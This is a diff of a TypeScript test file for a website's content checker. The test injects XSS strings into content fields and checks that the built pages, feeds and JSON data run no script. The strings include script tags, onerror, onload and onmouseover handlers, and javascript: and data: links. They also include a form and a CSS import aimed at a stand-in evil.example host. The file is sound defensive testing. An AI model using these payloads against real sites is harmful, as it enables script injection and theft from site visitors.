@@ -1,148 +1,68 @@
-/**
- * Scripts in content never run: the content check refuses tags and javascript: links, and everything that it accepts stays text in every page and file. Rows
- * of the backend are tested elsewhere: "rows with hostile strings" in __tests__/site/support/faults/rows.ts, and each field in
- * __tests__/featured-projects/row.test.ts.
- */
+/** Markup in content stays text in every page and file. What the check refuses is in the table of mistakes; rows of the backend are in the site tests. */
 import path from "node:path";
-import { chromium, type Browser } from "playwright-core";
-import { checkAll } from "../../src/content";
-import { inTurns } from "../site/support/turns";
-import { first } from "../support/content";
+import { parse } from "yaml";
+import { checkAll, readAll } from "../../src/content";
 import { copyProject, type Copy } from "./support/copy";
-import { namesIn } from "./support/folders";
-import { hostileElement, makeHostile, textsThatTakeTags } from "./support/hostile";
-import { serve, type Served } from "./support/servers";
+import { textsIn } from "./support/folders";
 
-const article = first("Article").file;
+/** The start of the element that a browser would create from a hostile text. */
+const element = "<svg onload=hostile=1";
+/** Has no complete tag, which the check refuses; on a page, the next “>” after it would complete one. */
+const hostile = `"'>${element} </script </title x`;
+const hostileMarkdown = `
+## Heading ${hostile}
 
-/** Markdown that the check refuses. */
-const refused = [
-  "<script>hostile=1</script>",
-  '<img src="x" onerror="hostile=1">',
-  '<svg onload="hostile=1"></svg>',
-  '<iframe srcdoc="<script>parent.hostile=1</script>"></iframe>',
-  '<details open ontoggle="hostile=1"><summary>s</summary></details>',
-  "Words <b id=hostile>that name a global</b>.",
-  '<form action="https://evil.example/"><button>send</button></form>',
-  '<style>@import "https://evil.example/x.css";</style>',
-  "[a link](javascript:hostile=1)",
-  "[a link](JavaScript:hostile=1)",
-  "[a link](data:text/html,<script>hostile=1</script>)",
-];
+Words ${hostile} and \`<script>hostile=1</script>\`.
 
-let copy: Copy;
+- [${hostile}](/contact "' onmouseover=hostile=1 onclick=hostile=1 x")
+- \\<img src=x onerror=hostile=1\\>
+`;
 
-beforeAll(() => {
-  copy = copyProject();
-});
+/** Fields of text that no other entry refers to. */
+const field =
+  /^( *(?:- )?)(title|lead|description|excerpt|caption|text|alt|label|location|heading|question|answer): (.+)$/;
 
-test("no field accepts a tag", () => {
-  expect(textsThatTakeTags(copy)).toEqual([]);
-});
-
-test.each(refused)("the check refuses %s in a text and reports its line", (words) => {
-  const before = copy.read(article);
-  const after = `${before.trimEnd()}\n\n${words}\n`;
-  copy.write(article, after);
-  const lines = checkAll(copy.folder).map(({ file, line }) => `${file}:${line}`);
-  copy.write(article, before);
-  expect(lines).toContain(`${article}:${after.trimEnd().split("\n").length}`);
-});
-
-describe("hostile texts that the check accepts", () => {
-  let written: string[];
-  let served: Served;
-  let browser: Browser;
-  let pages: string[];
-
-  beforeAll(async () => {
-    written = makeHostile(copy);
-    copy.build();
-    pages = copy.pages();
-    served = await serve(copy.folder);
-    browser = await chromium.launch(served.browser);
+const hostileLine = (line: string) =>
+  line.replace(field, (_, before: string, name: string, value: string) => {
+    const words = `${String(parse(value)).slice(0, 27)} ${hostile}`;
+    return `${before}${name}: ${JSON.stringify(words)}`;
   });
 
-  afterAll(async () => {
-    await browser?.close();
-    await served?.close();
-  });
-
-  /** The names and contents of built files whose names match. */
-  const files = (names: RegExp) =>
-    namesIn(path.join(copy.folder, "dist"))
-      .filter((name) => names.test(name))
-      .map((name) => [name, copy.read(`dist/${name}`)] as const);
-
-  test("are in most fields and on most pages", () => {
-    expect(written.length).toBeGreaterThan(600);
-    const shown = files(/\.html$/).filter(([, text]) => text.includes("onload=hostile=1"));
-    expect(shown.length).toBeGreaterThan(pages.length / 2);
-  });
-
-  test("create no element in any page, feed, site map or drawing", () => {
-    const found = files(/\.(html|xml|atom|svg)$/).filter(([, text]) =>
-      text.includes(hostileElement),
-    );
-    expect(found.map(([name]) => name)).toEqual([]);
-  });
-
-  test("stay valid JSON in data files", () => {
-    const data = files(/\.(json|webmanifest)$/);
-    expect(data.length).toBeGreaterThan(pages.length);
-    for (const [, text] of data) expect(() => JSON.parse(text) as unknown).not.toThrow();
-  });
-
-  /** Opens a page, with its policy disabled if `bypassCSP`. Returns what went wrong, and violations of the policy. */
-  async function troubleOn(address: string, bypassCSP: boolean): Promise<string[]> {
-    const context = await browser.newContext({ bypassCSP, baseURL: served.url });
-    const page = await context.newPage();
-    await page.addInitScript(() => {
-      const violations: string[] = [];
-      Reflect.set(window, "violations", violations);
-      document.addEventListener("securitypolicyviolation", ({ effectiveDirective, sample }) =>
-        violations.push(`${effectiveDirective}: ${sample}`),
-      );
-    });
-    await page.goto(address, { waitUntil: "load" });
-    await page.keyboard.press("Shift");
-    await page.waitForSelector("html[data-hydrated]", { state: "attached" });
-    await page.waitForLoadState("networkidle");
-    const trouble = await page.evaluate(() => {
-      const handlers = document.querySelectorAll(
-        "[onload], [onerror], [onclick], [onmouseover]",
-      );
-      const data = [...document.querySelectorAll("script[type='application/ld+json']")];
-      for (const { textContent } of data) JSON.parse(textContent ?? "");
-      return [
-        ...("hostile" in window ? ["code has run"] : []),
-        ...(Reflect.get(window, "violations") as string[]),
-        ...[...handlers].map(({ outerHTML }) => outerHTML.slice(0, 200)),
-      ];
-    });
-    await context.close();
-    return trouble.map((line) => `${address}: ${line}`);
+/** Makes every such line hostile, if the check accepts that, and every Markdown text. Returns the number of lines. */
+function makeHostile(copy: Copy): number {
+  const files = new Set(readAll(copy.folder).map(({ file }) => file));
+  const sources = [...files].map((file) => ({ file, lines: copy.read(file).split("\n") }));
+  const refused = new Set<string>();
+  for (let round = 1; round < 6; round += 1) {
+    let changed = 0;
+    for (const { file, lines } of sources) {
+      const edited = lines.map((line, index) => {
+        if (refused.has(`${file}:${index + 1}`) || !field.test(line)) return line;
+        changed += 1;
+        return hostileLine(line);
+      });
+      copy.write(file, edited.join("\n") + (file.endsWith(".md") ? hostileMarkdown : ""));
+    }
+    const findings = checkAll(copy.folder);
+    if (findings.length === 0) return changed;
+    for (const { file, line } of findings) refused.add(`${file}:${line}`);
   }
+  throw new Error(JSON.stringify(checkAll(copy.folder), undefined, 2));
+}
 
-  test.each([
-    ["even without the policy", true],
-    ["and cause no violation of the policy, Trusted Types included", false],
-  ])("do not run on any page, %s", async (_, bypassCSP) => {
-    const found = await Promise.all(
-      inTurns([...pages, "/no-such-page"], 4, (address) => troubleOn(address, bypassCSP)),
-    );
-    expect(found.flat()).toEqual([]);
-  });
-
-  test("are text in the search results", async () => {
-    const context = await browser.newContext({ bypassCSP: true, baseURL: served.url });
-    const page = await context.newPage();
-    await page.goto("/blog", { waitUntil: "load" });
-    await page.locator("main input[type='search']").fill("hostile");
-    await page.waitForLoadState("networkidle");
-    await page.locator("main").getByText(hostileElement).first().waitFor();
-    expect(await page.evaluate(() => "hostile" in window)).toBe(false);
-    expect(await page.locator("[onload]").count()).toBe(0);
-    await context.close();
-  });
+test("hostile texts create no element and no attribute in any page, feed, site map or drawing", () => {
+  const copy = copyProject();
+  expect(makeHostile(copy)).toBeGreaterThan(300);
+  copy.build();
+  const files = textsIn(path.join(copy.folder, "dist"), /\.(html|xml|atom|svg)$/);
+  const texts = files.filter(([, text]) => text.includes(element.slice(1)));
+  expect(texts.length).toBeGreaterThan(copy.pages().length / 2);
+  expect(files.filter(([, text]) => text.includes(element)).map(([name]) => name)).toEqual([]);
+  for (const address of copy.pages()) {
+    const page = copy.page(address);
+    const made = page.querySelectorAll("[onload], [onerror], [onclick], [onmouseover]");
+    expect([address, made.length]).toEqual([address, 0]);
+    for (const { textContent } of page.querySelectorAll("script[type='application/ld+json']"))
+      expect(() => JSON.parse(textContent ?? "") as unknown).not.toThrow();
+  }
 });
